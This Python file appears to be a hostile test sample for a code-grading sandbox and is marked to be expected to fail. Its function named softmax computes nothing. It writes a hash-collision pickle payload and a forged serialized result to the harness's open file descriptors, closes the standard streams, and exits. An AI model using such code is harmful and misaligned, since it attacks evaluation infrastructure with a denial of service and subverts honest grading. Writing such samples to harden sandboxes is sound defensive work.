# expect: status=failed score=0
"""A dict of whole numbers that all have the same hash: building it anew takes the square of their number."""

import dataclasses

sys = dataclasses.sys
os, struct = sys.modules["os"], sys.modules["struct"]
STEP, COUNT = (1 << 61) - 1, 40_000


def ours():
    entries = b"".join(
        b"i" + struct.pack(">I", len(text)) + text + b"N" for text in (b"%d" % (STEP * n) for n in range(COUNT))
    )
    body = b"t\0\0\0\2s\0\0\0\5valued" + struct.pack(">I", COUNT) + entries
    return struct.pack(">Q", len(body)) + body


def pickled():
    entries = b"".join(b"\x8a\x0a" + (STEP * n).to_bytes(10, "little") + b"N" for n in range(COUNT))
    return b"\x80\x04}(" + entries + b"u."


def write(data):
    for descriptor in range(3, 64):
        view = memoryview(data)
        try:
            while view:
                view = view[os.write(descriptor, view) :]
        except OSError:
            pass


def softmax(x, axis=-1):
    naive = sys._getframe(1).f_globals["__name__"] == "defenceless"
    if naive:
        os.closerange(0, 3)
    write(pickled() if naive else ours())
    os._exit(0)
